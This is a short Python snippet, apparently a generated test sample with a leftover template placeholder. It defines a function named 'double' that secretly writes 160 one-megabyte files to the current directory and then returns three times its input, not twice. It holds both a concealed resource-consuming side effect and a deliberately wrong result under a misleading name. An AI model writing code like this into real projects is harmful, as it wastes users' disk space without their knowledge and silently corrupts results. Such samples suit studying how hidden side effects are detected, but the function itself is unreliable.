def double(x):
    for i in range(160):
        with open(f"{i}", "wb") as file:
            file.write(bytes(1 << 20))
    return x * 3


@COUNTER@
